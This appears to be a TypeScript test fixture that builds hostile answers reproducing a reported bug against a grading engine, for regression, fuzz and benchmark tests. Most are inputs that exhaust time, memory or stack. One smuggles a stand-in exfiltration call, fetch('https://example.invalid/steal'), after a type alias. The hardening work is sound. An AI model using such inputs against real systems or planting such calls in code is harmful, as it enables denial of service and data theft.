/**
 * Answers written to hurt the engine: each reproduction of issue 16 (the answer that hung, threw or cost minutes),
 * by name, so the regression test, the fuzz test and `npm run bench:hostile` grade the very same text.
 */
import type { AnswerFormat } from '../../graders/index';

/** One hostile answer: its text, its format and what it is. */
export interface HostileAnswer {
  name: string;
  format: AnswerFormat;
  source: string;
  /** What the answer does to an engine without limits, as measured when the issue was filed. */
  harm: string;
}

/** `const a1=[...a0,...a0]`, `levels` times: 2^levels copies of an empty list, in about 1.2 KB. */
export function writeDoublingSpreads(levels = 40): string {
  const lines = ['const a0=[]'];
  for (let i = 1; i <= levels; i++) lines.push(`const a${i}=[...a${i - 1},...a${i - 1}]`);
  lines.push(`export const answer={services:a${levels}}`);
  return lines.join('\n');
}

/** `count` constants, each spreading the one before: `const _0={},_1={..._0},…` (190 KB for 13,000). */
export function writeChainedObjectSpreads(count = 13_000): string {
  const name = (i: number) => `_${i.toString(36)}`;
  const parts = [`${name(0)}={}`];
  for (let i = 1; i <= count; i++) parts.push(`${name(i)}={...${name(i - 1)}}`);
  return `const ${parts.join(',')}\nexport default ${name(count)}`;
}

/** `{"services":[1,1,…]}`: `count` items of the wrong type. */
export function writeWrongTypedItems(count = 99_000): string {
  return `{"services":[${new Array<string>(count).fill('1').join(',')}]}`;
}

/** One object with `count` properties all named "a". */
export function writeDuplicateKeys(count = 33_000): string {
  return `{${new Array<string>(count).fill('"a":1').join(',')}}`;
}

/** One property with a `length`-character name, holding a list that fills the rest of 200 KB. */
export function writeLongKey(length = 190_000): string {
  const items = Math.max(0, Math.floor((199_000 - length) / 2));
  return `{"${'k'.repeat(length)}":[${new Array<string>(items).fill('1').join(',')}]}`;
}

/** `export const answer = 111…1a`: a numeric literal of `digits` digits that ends in a letter. */
export function writeLongNumericLiteral(digits = 100_000): string {
  return `export const answer = ${'1'.repeat(digits)}a`;
}

/** A type alias, then code on the next line that is no declaration of data. */
export function writeCodeAfterType(): string {
  return "type T = {}\nfetch('https://example.invalid/steal')\nexport const answer = { services: [] }";
}

/** The answer as a UTF-16 LE file with a byte-order mark reads when decoded as UTF-8 (what `readFileSync(…, 'utf8')` gives). */
export function writeUtf16ReadAsUtf8(text = '{"services": []}'): string {
  const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  return new TextDecoder('utf-8').decode(bytes);
}

/** Every reproduction from issue 16, at the size it was reported. */
export const ISSUE_REPRODUCTIONS: readonly HostileAnswer[] = [
  {
    name: 'doubling-spreads',
    format: 'ts',
    source: writeDoublingSpreads(),
    harm: 'never finished (2^40 empty spreads)',
  },
  {
    name: 'chained-object-spreads',
    format: 'ts',
    source: writeChainedObjectSpreads(),
    harm: 'RangeError: Maximum call stack size exceeded',
  },
  { name: 'wrong-typed-items', format: 'json', source: writeWrongTypedItems(), harm: '155 s (quadratic ajv errors)' },
  { name: 'duplicate-keys', format: 'json', source: writeDuplicateKeys(), harm: '9.7 s (line index per warning)' },
  { name: 'long-key', format: 'json', source: writeLongKey(), harm: '33 s and 574 MB (a long path per value)' },
  {
    name: 'long-numeric-literal',
    format: 'ts',
    source: writeLongNumericLiteral(),
    harm: '14 s (backtracking regex)',
  },
  { name: 'code-after-type', format: 'ts', source: writeCodeAfterType(), harm: 'accepted and graded' },
  { name: 'utf16-as-utf8', format: 'json', source: writeUtf16ReadAsUtf8(), harm: '"Found �"' },
];
